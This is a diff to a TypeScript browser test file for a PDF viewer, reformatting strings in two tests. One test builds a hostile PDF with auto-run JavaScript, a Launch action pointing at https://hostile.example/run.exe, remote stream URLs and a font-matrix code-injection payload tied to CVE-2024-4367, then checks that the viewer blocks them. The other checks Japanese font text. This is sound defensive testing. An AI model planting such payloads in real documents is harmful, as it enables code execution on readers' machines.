@@ -117,14 +117,22 @@ test("a hostile PDF runs nothing and reaches nobody", async () => {
   const action = `<< /S /JavaScript /JS (${code.replace(/[()]/g, "\\$&")}) >>`;
   const hostile = madePdf({
     pages: ["harmless words"],
-    catalogue: `/OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << /JavaScript << /Names [(a) 4 0 R] >> >> /URI << /Base (https://hostile.example/) >>`,
+    catalogue:
+      "/OpenAction 4 0 R /AA << /WC 4 0 R >> " +
+      "/Names << /JavaScript << /Names [(a) 4 0 R] >> >> " +
+      "/URI << /Base (https://hostile.example/) >>",
     objects: [
       action,
       "<< /S /Launch /F (https://hostile.example/run.exe) >>",
       "<< /Length 0 /F << /FS /URL /F (https://hostile.example/stream) >> >>\nstream\n\nendstream",
     ],
     // A matrix that older readers compiled as code (CVE-2024-4367).
-    font: `<< /Type /Font /Subtype /Type1 /BaseFont /Hostile /FontMatrix [1 2 3 4 5 (0\\); globalThis.hostile = 1; //)] /Encoding /WinAnsiEncoding /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor << /Type /FontDescriptor /FontName /Hostile /Flags 32 /FontFile 6 0 R >> >>`,
+    font:
+      "<< /Type /Font /Subtype /Type1 /BaseFont /Hostile " +
+      "/FontMatrix [1 2 3 4 5 (0\\); globalThis.hostile = 1; //)] " +
+      "/Encoding /WinAnsiEncoding /FirstChar 32 /LastChar 33 /Widths [500 500] " +
+      "/FontDescriptor << /Type /FontDescriptor /FontName /Hostile /Flags 32 " +
+      "/FontFile 6 0 R >> >>",
   });
   await attach(visitor, "hostile.pdf", hostile);
   await page.locator("#attached", { hasText: "hostile.pdf its one page" }).waitFor();
@@ -140,7 +148,10 @@ test("a PDF with an older font of Japan has its text", async () => {
   const maps = (): number => stand.site.asked.filter((file) => file === "pdf-cmaps.bin").length;
   assert.equal(maps(), 0);
   const font =
-    "<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin /Encoding /90ms-RKSJ-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /Ryumin /Flags 4 >> >>] >>";
+    "<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin /Encoding /90ms-RKSJ-H " +
+    "/DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin " +
+    "/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> " +
+    "/FontDescriptor << /Type /FontDescriptor /FontName /Ryumin /Flags 4 >> >>] >>";
   // "日本" in Shift JIS.
   const shows = (text: string): string => `BT /F1 12 Tf 72 720 Td <${text}> Tj ET`;
   await attach(visitor, "japan.pdf", madePdf({ pages: ["93fa967b"], font, shows }));
